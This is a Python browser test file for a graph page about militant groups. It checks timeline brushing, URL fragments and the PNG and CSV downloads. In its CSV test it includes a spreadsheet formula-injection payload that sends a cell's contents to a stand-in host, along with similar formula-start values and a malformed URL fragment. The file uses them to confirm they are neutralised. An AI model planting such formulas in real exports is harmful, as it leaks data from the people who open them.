"""The page's timeline and downloads in a real headless Chromium: events per month under the
drawing, the period chosen on it by mouse and keyboard and kept in the URL's fragment; the drawing
as a PNG and the ties in view as a spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import io
import struct
import zlib
from collections import Counter
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

from actorgraph.page._render import render_html

try:
    from _pagegraph import SEED, fixture_graph
    from test_page_browser import Loaded, browser, open_page
except ImportError:  # tests/ imported as a package
    from tests._pagegraph import SEED, fixture_graph
    from tests.test_page_browser import Loaded, browser, open_page

__all__ = ["browser", "open_page"]  # fixtures shared with test_page_browser

pytestmark = pytest.mark.browser

# (month, kind) of the events added to the fixture: claimed, imported (a dataset's row), other.
EVENT_MONTHS = [
    *[(f"2016-{m:02d}", "claimed") for m in (1, 1, 4, 9)],
    *[(f"2017-{m:02d}", "imported") for m in (2, 3, 3, 3, 11)],
    *[(f"2018-{m:02d}", "other") for m in (6, 7)],
    *[(f"2019-{m:02d}", "claimed") for m in (1, 12)],
    ("2021-05", "imported"),
]


def timeline_graph() -> nx.MultiDiGraph:
    """The page fixture with dated events spread over 2016-2021 (and its own 2014 and 2023 ones)."""
    g = fixture_graph()
    for k, (month, kind) in enumerate(EVENT_MONTHS):
        node = f"agd:timeline-event-{k}"
        day = f"{month}-{10 + k:02d}"
        attrs: dict[str, Any] = {"date": day, "earliest": day, "latest": day}
        if kind == "imported":
            attrs["sourceRecord"] = str(1000 + k)
        g.add_node(
            node, label=f"Event {k}", type="ag:Attack", types=["ag:Attack", "ag:Event"], **attrs
        )
        relation = "ag:claimedBy" if kind == "claimed" else "ag:target"
        g.add_edge(node, "agd:ttp", key=relation, label=relation[3:], sources=[])
    return g


def _timeline(loaded: Loaded) -> dict[str, Any]:
    return loaded.page.evaluate("actorgraph.timeline()")


def _shown_events(loaded: Loaded) -> set[str]:
    return set(
        loaded.page.evaluate(
            """() => actorgraph.meta.details.map((d, i) => [d.id, i])
                 .filter(([id, i]) => id.startsWith('agd:timeline-event-') && actorgraph.nodeShown(i))
                 .map(([id]) => id)"""
        )
    )


def _expected_events(first: str, last: str) -> set[str]:
    return {
        f"agd:timeline-event-{k}"
        for k, (month, _) in enumerate(EVENT_MONTHS)
        if first <= month <= last
    }


def _drag(loaded: Loaded, first: str, last: str) -> None:
    """Press the mouse over the strip at one month, move it to another in steps, release."""
    page = loaded.page
    box = _timeline(loaded)["box"]
    y = box["y"] + box["height"] / 2
    x0 = page.evaluate("m => actorgraph.timelineX(m)", first)
    x1 = page.evaluate("m => actorgraph.timelineX(m)", last)
    page.mouse.move(x0, y)
    page.mouse.down()
    page.mouse.move(x1, y, steps=8)
    page.mouse.up()


def test_the_strip_counts_every_dated_event_by_month(open_page: Any) -> None:
    loaded = open_page(render_html(timeline_graph()))
    timeline = _timeline(loaded)
    bars = timeline["bars"]
    # Bajaur (claimed, July 2023) and the events above; the 2014 attack is dated to the year only.
    dated = [*EVENT_MONTHS, ("2023-07", "claimed")]
    assert sum(b["count"] for b in bars) == timeline["total"] == len(dated)
    assert {b["month"]: b["count"] for b in bars} == Counter(month for month, _ in dated)
    kinds = timeline["kinds"]
    by_kind = Counter(kinds[k] for b in bars for k, n in enumerate(b["kinds"]) for _ in range(n))
    assert by_kind == {
        "claimed or attributed": 7,
        "imported": 6,
        "other": 2,
    }
    assert timeline["yearOnly"] == 1
    assert (timeline["first"], timeline["last"]) == ("2014-01", "2023-12")
    assert (timeline["from"], timeline["to"]) == (None, None)
    # Drawn: one path per kind of event present, stacked in the strip.
    assert loaded.page.locator("#timeline-strip svg path").count() == 3
    assert loaded.requests == []
    assert loaded.console_errors == []


def test_brushing_hides_events_outside_the_period_and_keeps_it_in_the_url(
    open_page: Any,
) -> None:
    html = render_html(timeline_graph())
    loaded = open_page(html)
    page = loaded.page
    everything = loaded.status()
    _drag(loaded, "2016-04", "2017-11")
    timeline = _timeline(loaded)
    assert (timeline["from"], timeline["to"]) == ("2016-04", "2017-11")
    assert _shown_events(loaded) == _expected_events("2016-04", "2017-11")
    assert loaded.status()[0] < everything[0]
    fragment = page.evaluate("location.hash")
    assert "from=2016-04" in fragment and "to=2017-11" in fragment
    assert page.locator("#period-label").inner_text() == "2016-04 – 2017-11"
    # The same URL opens the same period.
    again = open_page(html, fragment=fragment)
    assert (_timeline(again)["from"], _timeline(again)["to"]) == ("2016-04", "2017-11")
    assert _shown_events(again) == _expected_events("2016-04", "2017-11")
    assert again.status() == loaded.status()
    # Dragging the band a year on moves the period a year on; a click on the strip clears it.
    _drag(loaded, "2017-01", "2018-01")
    timeline = _timeline(loaded)
    assert (timeline["from"], timeline["to"]) == ("2017-04", "2018-11")
    assert _shown_events(loaded) == _expected_events("2017-04", "2018-11")
    box = timeline["box"]
    page.mouse.click(page.evaluate("actorgraph.timelineX('2021-01')"), box["y"] + 10)
    assert (_timeline(loaded)["from"], _timeline(loaded)["to"]) == (None, None)
    assert loaded.status() == everything
    assert "from=" not in page.evaluate("location.hash")
    for opened in (loaded, again):
        assert opened.requests == []
        assert opened.console_errors == []


def test_a_period_from_an_older_url_still_opens(open_page: Any) -> None:
    # Pages written before the timeline kept whole years: "#from=2017&to=2018".
    loaded = open_page(render_html(timeline_graph()), fragment="#from=2017&to=2018")
    timeline = _timeline(loaded)
    assert (timeline["from"], timeline["to"]) == ("2017-01", "2018-12")
    assert _shown_events(loaded) == _expected_events("2017-01", "2018-12")
    hostile = open_page(render_html(timeline_graph()), fragment="#from=%3Cimg%3E&to=2018-99x")
    assert (_timeline(hostile)["from"], _timeline(hostile)["to"]) == (None, None)
    assert loaded.console_errors == hostile.console_errors == []


def test_the_period_is_chosen_from_the_keyboard(open_page: Any) -> None:
    loaded = open_page(render_html(timeline_graph()))
    page = loaded.page
    keys = page.keyboard

    def period() -> tuple[str | None, str | None]:
        t = _timeline(loaded)
        return t["from"], t["to"]

    page.focus(".tl-handle.start")  # the start of the period is a slider
    for _ in range(12 * 2 + 3):  # 2014-01 -> 2016-04
        keys.press("ArrowRight")
    assert period() == ("2016-04", None)
    page.focus(".tl-handle.end")
    keys.press("PageDown")  # a year at a time
    keys.press("PageDown")
    keys.press("PageDown")
    keys.press("ArrowLeft")
    assert period() == ("2016-04", "2020-11")
    assert page.locator(".tl-handle.end").get_attribute("aria-valuetext") == "2020-11"
    # The band: arrow keys move it, Shift with an arrow key narrows or widens it at its end.
    page.focus(".tl-brush")
    keys.press("Shift+ArrowLeft")
    assert period() == ("2016-04", "2020-10")
    keys.press("ArrowLeft")
    assert period() == ("2016-03", "2020-09")
    for _ in range(12 * 2 + 2):
        keys.press("ArrowLeft")
    assert period() == (None, "2018-07")  # the band reached the first month: open at the start
    assert _shown_events(loaded) == _expected_events("0000-01", "2018-07")
    assert "to=2018-07" in page.evaluate("location.hash")
    # "All time" clears it.
    page.click("#period-clear")
    assert period() == (None, None)
    assert page.locator("#period-clear").is_disabled()
    assert loaded.console_errors == []


def test_keys_on_a_large_graph_filter_once_they_rest(open_page: Any) -> None:
    # Re-filtering thousands of nodes takes a second or more: the band follows each key at once,
    # the drawing once the keys rest.
    g = nx.MultiDiGraph()
    for k in range(2100):
        day = f"{2000 + k % 20}-{1 + k % 12:02d}-01"
        g.add_node(
            f"agd:e{k}",
            label=f"E{k}",
            type="ag:Attack",
            types=["ag:Attack", "ag:Event"],
            date=day,
            earliest=day,
            latest=day,
        )
        g.add_edge(f"agd:e{k}", f"agd:g{k % 30}", key="ag:claimedBy")
    loaded = open_page(render_html(g))
    page = loaded.page
    page.evaluate("window.__periods = 0; actorgraph.on('period', () => window.__periods++)")
    # Five presses in one go (a busy test machine must not space them past the rest time).
    page.evaluate(
        """() => { const h = document.querySelector('.tl-handle.start');
                   for (let k = 0; k < 5; k++)
                     h.dispatchEvent(new KeyboardEvent('keydown', {key: 'ArrowRight', bubbles: true})); }"""
    )
    assert page.locator(".tl-handle.start").get_attribute("aria-valuetext") == "2000-06"
    page.wait_for_function("() => actorgraph.timeline().from === '2000-06'")
    assert page.evaluate("window.__periods") == 1
    assert loaded.console_errors == []


def test_a_graph_without_dates_has_no_timeline(open_page: Any) -> None:
    g = nx.MultiDiGraph()
    g.add_edge("agd:a", "agd:b", key="ag:alliedWith")
    loaded = open_page(render_html(g))
    assert loaded.page.locator("#timeline").is_hidden()
    assert loaded.page.locator("#time-section").is_hidden()
    assert loaded.console_errors == []


# --------------------------------------------------------------------------- downloads

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
QUOTED = 'The group said "no", then\nleft, twice'


def download_graph() -> nx.MultiDiGraph:
    """The timeline graph with a tie whose claims a spreadsheet would run as formulas."""
    g = timeline_graph()
    g.add_edge(
        "agd:iskp",
        "agd:ttp",
        key="ag:rivalOf",
        label="rival of",
        start="2015",
        statements=[
            {"source": SEED, "claim": FORMULA, "rank": "ag:PreferredRank", "start": "2015"},
            {"source": SEED, "claim": "@SUM(1+1)"},
            {"source": SEED, "claim": "+1 -1"},
            {"source": SEED, "claim": "-2+3"},
            {"claim": QUOTED},
        ],
        sources=[SEED],
    )
    return g


def _download(loaded: Loaded, button: str) -> bytes:
    with loaded.page.expect_download() as info:
        loaded.page.click(button)
    path = info.value.path()
    assert path is not None
    return Path(path).read_bytes()


VISIBLE_TIES_JS = """() => actorgraph.graph.edges.filter(e => actorgraph.edgeVisible(e.id)).map(e =>
  [actorgraph.meta.details[e.from].id, actorgraph.meta.edgeDetails[e.id].rel,
   actorgraph.meta.details[e.to].id])"""


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the encoding
    text = data[3:].decode("utf-8")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_csv_lists_the_ties_in_view_with_claims_safe_for_a_spreadsheet(
    open_page: Any,
) -> None:
    loaded = open_page(render_html(download_graph()))
    page = loaded.page
    _drag(loaded, "2016-01", "2017-12")  # some events and their ties leave the view
    visible = {tuple(t) for t in page.evaluate(VISIBLE_TIES_JS)}
    total = page.evaluate("actorgraph.graph.edges.length")
    assert 0 < len(visible) < total
    rows = _csv_rows(_download(loaded, "#download-csv"))
    assert {(r["source id"], r["relation id"], r["target id"]) for r in rows} == visible
    rival = [r for r in rows if r["relation id"] == "ag:rivalOf"]
    assert rival[0]["source"] == "ISIS–K" and rival[0]["target"] == "Tehrik-i-Taliban Pakistan"
    claims = [r["claim"] for r in rival]
    # Formula starts neutralised with a leading ', other text exactly as it is.
    assert claims == ["'" + FORMULA, "'@SUM(1+1)", "'+1 -1", "'-2+3", QUOTED]
    assert rival[0]["rank"] == "Preferred"
    assert rival[0]["source title"] == "Terrorism is resurging in Pakistan"
    assert rival[0]["publisher"] == "Islamabad Policy Research Institute"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    # A focused neighbourhood: only its ties (the rest is dimmed, not in view).
    page.fill("#search", "ISKP")
    page.click('#search-results button[data-node="agd:iskp"]')
    page.click("#focus-1")
    focused = {tuple(t) for t in page.evaluate(VISIBLE_TIES_JS)}
    assert focused < visible
    rows = _csv_rows(_download(loaded, "#download-csv"))
    assert {(r["source id"], r["relation id"], r["target id"]) for r in rows} == focused
    assert "ties in view" in page.locator("#download-status").inner_text()
    assert loaded.requests == []
    assert loaded.console_errors == []


def _png_chunks(data: bytes) -> dict[bytes, bytes]:
    chunks: dict[bytes, bytes] = {}
    at = 8
    while at < len(data):
        (length,) = struct.unpack(">I", data[at : at + 4])
        kind = data[at + 4 : at + 8]
        body = data[at + 8 : at + 8 + length]
        (crc,) = struct.unpack(">I", data[at + 8 + length : at + 12 + length])
        assert crc == zlib.crc32(kind + body)
        chunks[kind] = chunks.get(kind, b"") + body
        at += 12 + length
    return chunks


def test_the_png_is_the_drawing_as_it_is(open_page: Any) -> None:
    loaded = open_page(render_html(download_graph()))
    page = loaded.page
    data = _download(loaded, "#download-png")
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    chunks = _png_chunks(data)
    width, height = struct.unpack(">II", chunks[b"IHDR"][:8])
    canvas = page.evaluate(
        "(() => { const c = actorgraph.network.canvas.frame.canvas; return [c.width, c.height]; })()"
    )
    assert [width, height] == canvas and width > 300 and height > 300
    assert b"IEND" in chunks
    # Not blank: the drawing's nodes, ties and labels on white give many different bytes.
    pixels = zlib.decompress(chunks[b"IDAT"])
    assert len(set(pixels)) > 20
    assert 2_000 < len(data) < 20_000_000
    assert page.locator("#download-status").inner_text().endswith(".png.")
    assert loaded.requests == []
    assert loaded.console_errors == []
